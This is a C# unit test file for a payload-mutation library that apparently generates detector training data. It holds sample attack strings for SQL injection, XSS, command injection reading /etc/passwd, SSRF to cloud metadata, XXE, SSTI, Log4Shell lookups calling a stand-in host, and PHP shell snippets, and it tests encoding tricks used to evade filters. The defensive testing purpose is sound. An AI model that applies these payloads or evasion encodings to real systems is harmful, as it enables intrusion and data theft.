using System.Globalization;
using System.Net;
using System.Text;
using System.Text.RegularExpressions;
using Shouldly;
using Weir.Http.Corpus.Mutation;
using Weir.Numerics;
using Xunit;

namespace Weir.Tests.Http.Corpus;

public sealed class MutatorsTests
{
    private const string Sql = "1' union select user(),'admin' from users where 1=1 -- -";
    private const string Html = "\"><img src=x onerror=alert(1)><script>alert(document.cookie)</script>";

    /// <summary>One text of each class that gives most mutators something to do.</summary>
    private static readonly (AttackClass Class, string Text)[] s_samples =
    [
        (AttackClass.Sqli, Sql), (AttackClass.Sqli, "1 OR sleep(5)#"), (AttackClass.Xss, Html), (AttackClass.Xss, "<a href=\"javascript:alert('x')\">x</a>"), (AttackClass.Xss, "<script src=\"//x.test/a.js\"></script>"),
        (AttackClass.Rce, ";cat /etc/passwd"), (AttackClass.Rce, "$(id)"), (AttackClass.Rce, "`whoami`"), (AttackClass.Traversal, "../../etc/passwd"), (AttackClass.Traversal, "/etc/passwd"),
        (AttackClass.Ssrf, "http://127.0.0.1/admin"), (AttackClass.Ssrf, "http://169.254.169.254/latest/meta-data/"),
        (AttackClass.Ssti, "{{7*7}}"), (AttackClass.Ssti, "{{''.__class__.__mro__['popen']['__init__']}}"),
        (AttackClass.Xxe, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
        (AttackClass.Nosqli, "{\"user\":{\"$ne\":1}}"), (AttackClass.Nosqli, "a[$ne]=1"), (AttackClass.Nosqli, "' || 1==1 //"),
        (AttackClass.Ldapi, "*)(uid=*))(|(objectClass=*"), (AttackClass.Log4shell, "${jndi:ldap://x.test/a}"), (AttackClass.Other, "php://filter/resource=index.php"),
        (AttackClass.Sqli, "' or 'a'='a"), (AttackClass.Sqli, "-1 union select 1,null,3--"), (AttackClass.Xss, "<img src=x onerror=alert(1)>"), (AttackClass.Rce, "1|dir"), (AttackClass.Rce, "system('id')"),
        (AttackClass.Other, "/%0d%0aSet-Cookie: a=b"), (AttackClass.Other, "__proto__[x]=1"), (AttackClass.Other, "//shop.test/"), (AttackClass.Other, "O:4:\"User\":1:{}"),
        (AttackClass.Other, "<!--#exec cmd=\"id\"-->"), (AttackClass.Other, "<?php system('id');?>"), (AttackClass.Other, "=cmd|'/c calc'!A0"),
    ];

    [Fact]
    public void All_Names_AreDistinct() =>
        Mutators.All.ToArray().Select(static m => m.Name).Distinct(StringComparer.Ordinal).Count().ShouldBe(Mutators.All.Length);

    [Fact]
    public void Apply_EachMutator_ChangesAtLeastOneSample()
    {
        string[] idle = [.. Mutators.All.ToArray()
            .Where(static m => !s_samples.Any(s => m.AppliesTo(s.Class) && Enumerable.Range(0, 20).Any(i => m.Apply(s.Text, new SeededRandom((ulong)i)) is not null)))
            .Select(static m => m.Name)];

        idle.ShouldBeEmpty();
    }

    [Fact]
    public void Apply_SameSeed_GivesSameText()
    {
        foreach (Mutator mutator in Mutators.All)
        {
            foreach ((AttackClass attackClass, string text) in s_samples)
            {
                if (mutator.AppliesTo(attackClass))
                {
                    mutator.Apply(text, new SeededRandom(5)).ShouldBe(mutator.Apply(text, new SeededRandom(5)), mutator.Name);
                }
            }
        }
    }

    [Theory]
    [InlineData("percent", 1)]
    [InlineData("percent-full", 1)]
    [InlineData("percent-partial", 1)]
    [InlineData("percent-lower", 1)]
    [InlineData("percent-double", 2)]
    [InlineData("percent-triple", 3)]
    public void Apply_Percent_DecodesToTheOriginal(string name, int rounds)
    {
        foreach ((_, string text) in s_samples)
        {
            string encoded = Find(name).Apply(text, new SeededRandom(1)) ?? text;
            for (int i = 0; i < rounds; i++)
            {
                encoded = Uri.UnescapeDataString(encoded);
            }

            encoded.ShouldBe(text);
        }
    }

    [Fact]
    public void Apply_Plus_DecodesToTheOriginal() =>
        WebUtility.UrlDecode(Find("plus").Apply(Sql, new SeededRandom(1))).ShouldBe(Sql);

    [Theory]
    [InlineData("entity-decimal")]
    [InlineData("entity-hex")]
    [InlineData("entity-padded")]
    [InlineData("entity-partial")]
    public void Apply_Entities_DecodeToTheOriginal(string name)
    {
        string? encoded = Find(name).Apply(Html, new SeededRandom(1));
        encoded.ShouldNotBeNull();
        WebUtility.HtmlDecode(encoded).ShouldBe(Html);
    }

    [Theory]
    [InlineData("unicode-escape", @"\\u(?<n>[0-9a-f]{4})")]
    [InlineData("unicode-escape-partial", @"\\u(?<n>[0-9a-f]{4})")]
    [InlineData("hex-escape", @"\\x(?<n>[0-9a-f]{2})")]
    [InlineData("percent-u", @"%u(?<n>[0-9A-F]{4})")]
    public void Apply_Escapes_DecodeToTheOriginal(string name, string pattern)
    {
        string? encoded = Find(name).Apply(Sql, new SeededRandom(1));
        encoded.ShouldNotBeNull();
        Regex.Replace(encoded, pattern, static m => ((char)int.Parse(m.Groups["n"].ValueSpan, NumberStyles.HexNumber, CultureInfo.InvariantCulture)).ToString(), RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
    }

    [Fact]
    public void Apply_FullWidth_NormalisesToTheOriginal()
    {
        foreach (string name in (string[])["full-width", "full-width-words"])
        {
            string? wide = Find(name).Apply(Sql, new SeededRandom(1));
            wide.ShouldNotBeNull();
            string.Concat(wide.Select(static c => c is >= '！' and <= '～' ? (char)(c - '！' + '!') : c)).ShouldBe(Sql);
        }
    }

    [Theory]
    [InlineData("sql-comment")]
    [InlineData("sql-comment-words")]
    public void Apply_SqlComment_RemovedGivesTheOriginal(string name)
    {
        string? mutated = Find(name).Apply(Sql, new SeededRandom(2));
        mutated.ShouldNotBeNull();
        Regex.Replace(mutated, @"/\*.*?\*/", " ", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
    }

    [Fact]
    public void Apply_SqlVersioned_RemovedMarksGiveTheOriginal()
    {
        string? mutated = Find("sql-versioned").Apply(Sql, new SeededRandom(2));
        mutated.ShouldNotBeNull();
        Regex.Replace(mutated, @"/\*!\d*(?<w>\w+)\*/", "${w}", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
    }

    [Theory]
    [InlineData("sql-case")]
    [InlineData("sql-upper")]
    [InlineData("html-case")]
    public void Apply_Case_ChangesNothingElse(string name)
    {
        string text = name.StartsWith("sql", StringComparison.Ordinal) ? Sql : Html;
        string? mutated = Find(name).Apply(text, new SeededRandom(3));
        mutated.ShouldNotBeNull();
        mutated.ShouldBe(text, StringCompareShould.IgnoreCase);
    }

    [Fact]
    public void Apply_SqlInteger_KeepsItsValue()
    {
        for (ulong seed = 0; seed < 40; seed++)
        {
            string? mutated = Find("sql-integer").Apply("7", new SeededRandom(seed));
            mutated.ShouldNotBeNull();
            ((string[])["7.0", "0x7", "8-1", "(7)", "7e0", "~~7", "7+0"]).Contains(mutated, StringComparer.Ordinal).ShouldBeTrue(mutated);
        }
    }

    [Theory]
    [InlineData("shell-empty-quotes", @"''|""""")]
    [InlineData("shell-backslash", @"\\")]
    [InlineData("shell-empty-variable", @"\$@|\$\*|\$\{x\}|\$\(\)|``|\$1")]
    public void Apply_ShellQuoting_RemovedGivesTheOriginal(string name, string pattern)
    {
        const string Command = ";uname -a";
        string? mutated = Find(name).Apply(Command, new SeededRandom(4));
        mutated.ShouldNotBeNull();
        Regex.Replace(mutated, pattern, "", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Command);
    }

    [Fact]
    public void Apply_ShellBase64_CarriesTheCommand()
    {
        string? mutated = Find("shell-base64").Apply(";cat /etc/passwd", new SeededRandom(4));
        mutated.ShouldNotBeNull();
        string carried = mutated[(mutated.IndexOf("echo ", StringComparison.Ordinal) + 5)..mutated.IndexOf('|', StringComparison.Ordinal)];
        Encoding.UTF8.GetString(Convert.FromBase64String(carried)).ShouldBe("cat /etc/passwd");
    }

    [Fact]
    public void Apply_UrlAddress_KeepsTheAddress()
    {
        for (ulong seed = 0; seed < 40; seed++)
        {
            string? mutated = Find("url-address").Apply("http://10.1.2.3/", new SeededRandom(seed));
            mutated.ShouldNotBeNull();
            ((string[])["http://167838211/", "http://0x0a010203/", "http://012.01.02.03/", "http://0xa.0x1.0x2.0x3/", "http://[::ffff:10.1.2.3]/", "http://10.1.2.3.nip.io/", "http://10.66051/"]).Contains(mutated, StringComparer.Ordinal).ShouldBeTrue(mutated);
        }
    }

    [Fact]
    public void Apply_LookupNesting_UnfoldsToTheOriginal()
    {
        foreach (string name in (string[])["lookup-lower", "lookup-default", "lookup-environment"])
        {
            string? mutated = Find(name).Apply("${jndi:ldap://x.test/a}", new SeededRandom(4));
            mutated.ShouldNotBeNull();
            Regex.Replace(mutated, @"\$\{[^{}]*[:-](?<c>\w)\}", "${c}", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe("${jndi:ldap://x.test/a}", name);
        }
    }

    [Fact]
    public void Apply_TextWithoutAnchor_GivesNull()
    {
        foreach (string name in (string[])["sql-identity", "shell-ifs", "js-scheme", "url-address", "lookup-lower", "xml-public", "sql-text-condition", "html-handler-tag", "shell-reader", "object-sign", "php-tag"])
        {
            Find(name).Apply("nothing to see", new SeededRandom(1)).ShouldBeNull(name);
        }
    }

    [Theory]
    [InlineData("sql-condition", "1 or 3=3", "3")]
    [InlineData("prototype-path", "__proto__[role]=admin", "role")]
    [InlineData("html-carrier", "<script>alert(7)</script>", "alert(7)")]
    [InlineData("template-delimiters", "{{7*7}}", "7*7")]
    [InlineData("header-break", "x%0d%0aSet-Cookie: a=b", "Set-Cookie: a=b")]
    public void Apply_ChangeOfShape_KeepsWhatActs(string name, string text, string kept)
    {
        for (ulong seed = 0; seed < 40; seed++)
        {
            // Some conditions need no number.
            string? mutated = Find(name).Apply(text, new SeededRandom(seed));
            bool constant = name == "sql-condition" && mutated is not null && Regex.IsMatch(mutated, "97|0x61|abc|!0|~0|'a'", RegexOptions.None, TimeSpan.FromSeconds(1));
            (mutated is null || constant || mutated.Contains(kept, StringComparison.Ordinal)).ShouldBeTrue(mutated);
        }
    }

    [Fact]
    public void ForTraining_SameSeed_GivesSameText()
    {
        foreach ((AttackClass attackClass, string text) in s_samples)
        {
            for (ulong seed = 0; seed < 20; seed++)
            {
                Mutators.ForTraining(text, attackClass, new SeededRandom(seed)).ShouldBe(Mutators.ForTraining(text, attackClass, new SeededRandom(seed)));
            }
        }
    }

    [Fact]
    public void ForTraining_EverySample_ChangesMostlyAndInManyWays()
    {
        foreach ((AttackClass attackClass, string text) in s_samples)
        {
            string?[] mutated = [.. Enumerable.Range(0, 100).Select(i => Mutators.ForTraining(text, attackClass, new SeededRandom((ulong)i)))];

            // A text without punctuation gets nothing around it, so that fewer ways are left.
            mutated.ShouldAllBe(m => m != text);
            mutated.OfType<string>().Distinct(StringComparer.Ordinal).Count().ShouldBeGreaterThan(text.AsSpan().IndexOfAny("'<>(|;%{$") >= 0 ? 50 : 5, text);
        }
    }

    [Fact]
    public void ForTraining_EmptyOrLongText_GivesNull()
    {
        Mutators.ForTraining("", AttackClass.Sqli, new SeededRandom(1)).ShouldBeNull();
        Mutators.ForTraining(new string('a', 3_000), AttackClass.Sqli, new SeededRandom(1)).ShouldBeNull();
    }

    [Fact]
    public void Chain_SameSeed_IsDeterministicAndChanges()
    {
        foreach ((AttackClass attackClass, string text) in s_samples)
        {
            for (ulong seed = 0; seed < 30; seed++)
            {
                string? chained = Mutators.Chain(text, attackClass, seed, 3);
                chained.ShouldNotBeNull();
                chained.ShouldNotBe(text);
                chained.ShouldBe(Mutators.Chain(text, attackClass, seed, 3));
            }
        }
    }

    [Fact]
    public void Chain_HostileText_StaysBoundedInTimeAndSize()
    {
        string[] hostile = [new('<', 20_000), new('\'', 20_000), string.Concat(Enumerable.Repeat("1=1 or ", 3_000)), string.Concat(Enumerable.Repeat("../", 5_000)), string.Concat(Enumerable.Repeat("<a onx=y ", 2_000)), "\0\uD800x"];
        foreach (string text in hostile)
        {
            foreach (AttackClass attackClass in Enum.GetValues<AttackClass>())
            {
                string? chained = Mutators.Chain(text, attackClass, 1, 2);
                (chained?.Length ?? 0).ShouldBeLessThan((text.Length * 60) + 1_000);
            }
        }
    }

    private static Mutator Find(string name) => Mutators.All.ToArray().Single(m => m.Name == name);
}
